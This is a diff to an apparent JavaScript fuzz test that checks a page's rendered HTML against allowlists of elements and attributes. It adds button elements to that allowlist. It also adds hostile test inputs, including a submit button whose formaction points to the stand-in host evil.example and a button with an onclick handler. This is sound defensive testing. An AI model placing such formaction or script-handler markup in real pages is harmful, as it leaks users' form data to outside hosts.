@@ -22,9 +22,10 @@ export function fuzzFirstScreen(page, seconds, seed = 1) {
       '</article>', '<aside id="afterword">', '<br aria-hidden="true">', '<strong><em><code><del>', '<link rel=stylesheet href=x>',
       '<style>body{display:none}</style>', '<xmp><p>', '<plaintext>', '<frameset>', '<isindex>', '<keygen>',
       '<div is="x" slot="y" part="z" popover>', '<span tabindex=1 contenteditable>', '<p formaction=x>',
+      '<button type="submit" formaction="https://evil.example/" data-copy="a">b</button>', '<button onclick="x()">',
     ];
-    const ELEMENTS = new Set(['article', 'aside', 'h1', 'h2', 'h3', 'p', 'pre', 'span', 'a', 'br', 'strong', 'em',
-      'code', 'del']);
+    const ELEMENTS = new Set(['article', 'aside', 'h1', 'h2', 'h3', 'p', 'pre', 'span', 'a', 'button', 'br', 'strong',
+      'em', 'code', 'del']);
     const ATTRIBUTES = new Set(['id', 'class', 'data-box', 'data-article', 'aria-label', 'aria-hidden']);
     const LINK = new Set(['href', 'target', 'rel', 'data-copy']);
     // A small deterministic generator: a failure is replayed by its seed and run.
@@ -51,6 +52,7 @@ export function fuzzFirstScreen(page, seconds, seed = 1) {
         if (node.nodeType !== Node.ELEMENT_NODE) return `a node of type ${node.nodeType}`;
         if (!ELEMENTS.has(node.localName) || node.namespaceURI !== 'http://www.w3.org/1999/xhtml') return `<${node.localName}>`;
         for (const { name, value } of node.attributes) {
+          if (node.localName === 'button' && ((name === 'type' && value === 'button') || name === 'data-copy')) continue;
           if (ATTRIBUTES.has(name) || (node.localName === 'a' && LINK.has(name))) {
             if (name === 'data-box' && !/^-?\d+(\.\d+)? -?\d+(\.\d+)? -?\d+(\.\d+)? -?\d+(\.\d+)?$/.test(value)) return `data-box="${value}"`;
             if (name === 'href' && !['http:', 'https:', 'mailto:'].includes(new URL(value, location.href).protocol)) return `href="${value}"`;
